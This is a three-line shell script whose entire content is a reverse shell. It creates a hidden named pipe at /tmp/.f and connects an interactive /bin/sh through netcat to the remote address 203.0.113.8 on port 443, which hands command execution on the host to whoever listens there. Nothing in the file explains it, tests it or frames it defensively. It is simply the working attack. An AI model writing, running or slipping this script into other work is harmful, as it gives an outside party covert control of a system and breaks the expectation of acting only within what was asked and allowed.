#!/bin/sh
rm -f /tmp/.f; mkfifo /tmp/.f
cat /tmp/.f | /bin/sh -i 2>&1 | nc 203.0.113.8 443 > /tmp/.f
